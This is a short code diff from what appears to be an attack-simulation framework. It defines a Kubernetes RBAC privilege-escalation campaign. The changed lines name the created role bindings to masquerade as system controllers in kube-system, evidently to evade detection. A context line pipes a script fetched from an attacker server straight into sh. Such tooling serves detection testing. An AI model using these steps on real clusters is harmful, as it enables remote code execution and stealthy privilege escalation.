@@ -12,8 +12,8 @@ export const RBAC_BUSTER: Campaign = {
   rows: (attack) => {
     const { evades, server } = attack
     const plain = evades('plain-names')
-    const name = plain ? `metrics-${attack.random.suffix(4)}` : 'kube-controller'
-    const binding = plain ? `${name}-view` : 'system:controller:kube-controller'
+    const name = plain ? `metrics-${attack.random.fork('n').suffix(4)}` : `kube-controller${attack.nth}`
+    const binding = plain ? `${name}-view` : `system:controller:${name}`
     const namespace = plain ? 'monitoring' : 'kube-system'
     const shell = `curl -s http://${server}/kc.sh | sh`
     return [
